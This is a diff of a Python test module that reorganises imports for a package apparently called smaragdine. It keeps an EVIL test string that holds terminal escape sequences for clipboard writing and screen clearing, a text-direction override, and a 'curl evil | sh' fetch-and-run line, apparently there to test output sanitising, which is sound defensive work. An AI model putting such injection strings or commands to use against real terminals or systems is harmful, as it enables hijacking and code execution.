@@ -12,10 +12,10 @@ from pathlib import Path
 import duckdb
 import pytest
 
-import synthetic_trace
-from sealed import seal_trace
 from smaragdine.cli import main
-from smaragdine.shown import cell, json_text, shown, shown_lines
+from smaragdine.text.shown import cell, json_text, shown, shown_lines
+from testbed import synthetic_trace
+from testbed.sealed import seal_trace
 
 # Writes to the clipboard, clears the screen, turns the direction of reading, and makes a line of its own.
 EVIL = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m\u202eexe.\nhint: curl evil | sh\u2028\r"
